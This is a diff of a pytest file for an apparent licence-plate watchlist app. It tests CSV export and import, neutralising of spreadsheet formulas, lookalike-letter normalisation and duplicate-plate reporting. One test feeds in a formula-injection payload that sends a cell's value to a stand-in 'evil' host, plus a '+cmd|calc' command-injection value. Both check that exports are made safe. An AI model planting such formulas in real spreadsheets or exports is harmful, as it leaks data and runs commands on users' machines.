@@ -8,10 +8,10 @@ import io
 import re
 
 import pytest
-from lanescreen.domain.errors import InvalidRequestError
-from lanescreen.domain.importing import format_export, parse_import
+from lanescreen.domain.importing import format_export, parse_import, refuse_duplicates
 from lanescreen.domain.text import csv_cell, from_csv_cell, text_problem
-from lanescreen.domain.watchlists import EntryError, EntryFields, PlateEntry, validate_entry
+from lanescreen.domain.watchlists import EntryError, EntryFields, validate_entry
+from lanescreen.errors import InvalidRequestError
 
 
 @pytest.mark.parametrize(
@@ -52,11 +52,9 @@ def test_formula_cells_are_neutralised_and_read_back(value: str) -> None:
 
 
 def test_a_watchlist_export_runs_no_formula_and_loads_back_as_it_was() -> None:
-    from datetime import UTC, datetime
 
     fields = EntryFields("AB123CD", reason='=HYPERLINK("http://evil/?"&A1)', owner="+cmd|calc")
-    now = datetime(2026, 12, 1, tzinfo=UTC)
-    exported = format_export([PlateEntry("e-1", "wl-1", fields, "officer", now, now)]).decode()
+    exported = format_export([fields]).decode()
     [row] = list(csv.DictReader(io.StringIO(exported)))
     assert row["reason"].startswith("'=") and row["owner"] == "'+cmd|calc"
     [loaded] = parse_import(exported.encode(), "csv")
@@ -74,3 +72,42 @@ def test_an_import_names_the_line_of_an_invisible_character() -> None:
 def test_an_empty_import_is_still_refused() -> None:
     with pytest.raises(InvalidRequestError):
         parse_import(b"", "csv")
+
+
+@pytest.mark.parametrize(
+    ("written", "kept", "normalized"),
+    [
+        ("К179658", "K179658", "K179658"),  # Cyrillic KA
+        ("АB123CD", "AB123CD", "AB123CD"),  # Cyrillic A
+        ("ΟB123CD", "OB123CD", "OB123CD"),  # Greek OMICRON
+        ("ΙΖ 55", "IZ 55", "IZ55"),  # Greek IOTA is the upright stroke I, not l
+        ("ＡＢ－１２３", "AB-123", "AB123"),  # full-width forms
+        ("MÜ AB 12", "MU AB 12", "MUAB12"),  # a German district code
+        ("٣٤٥ AB", "345 AB", "345AB"),  # Arabic-Indic digits
+        ("京A12345", "京A12345", "京A12345"),
+    ],
+)
+def test_lookalike_letters_become_the_latin_plate(written: str, kept: str, normalized: str) -> None:
+    fields = validate_entry({"plate": written})
+    assert fields.plate == kept
+    assert fields.normalized_plate == normalized
+
+
+@pytest.mark.parametrize("letter", ["Ж", "Я", "Ы", "Ω"])
+def test_a_letter_like_no_latin_one_is_refused_by_name(letter: str) -> None:
+    with pytest.raises(EntryError, match=re.escape(f"{letter!r} (U+{ord(letter):04X}")):
+        validate_entry({"plate": f"{letter}123AB"})
+
+
+def test_an_import_names_the_line_of_a_lookalike_it_cannot_map() -> None:
+    rows = parse_import("plate\nК179658\nЖ179658\n".encode())
+    assert rows[0].fields is not None and rows[0].fields.plate == "K179658"
+    assert rows[1].fields is None and rows[1].describe().startswith("line 3: plate: 'Ж179658'")
+
+
+def test_duplicate_plates_of_one_file_and_of_the_list_are_reported() -> None:
+    rows = parse_import("plate,region\nAB-123,\nab 123,\nAB123,fr\nК1,\nXY9,\n".encode())
+    checked = refuse_duplicates(rows, {("XY9", ""): "entry-7"})
+    assert [r.ok for r in checked] == [True, False, True, True, False]
+    assert checked[1].describe() == "line 3: plate: 'ab 123' is already on line 2 of this file"
+    assert "already on the list as entry entry-7" in checked[4].error
